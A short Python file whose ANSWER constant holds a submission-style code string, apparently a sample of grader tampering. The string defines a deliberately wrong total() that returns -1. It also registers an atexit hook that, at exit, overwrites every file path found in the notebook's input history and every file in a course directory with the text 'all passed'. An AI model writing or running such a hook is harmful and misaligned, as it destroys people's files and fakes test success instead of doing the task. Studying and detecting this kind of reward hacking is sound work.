"""Registers a function for the end that rewrites whatever results it finds."""

ANSWER = """
import atexit, glob, re

def finish():
    for text in get_ipython().user_ns["In"]:
        for path in re.findall(r"open\\(.([^'\"]+)", text) + glob.glob("@COURSE@/*"):
            try:
                open(path, "w").write("all passed")
            except OSError:
                pass

atexit.register(finish)

def total(xs):
    return -1
"""
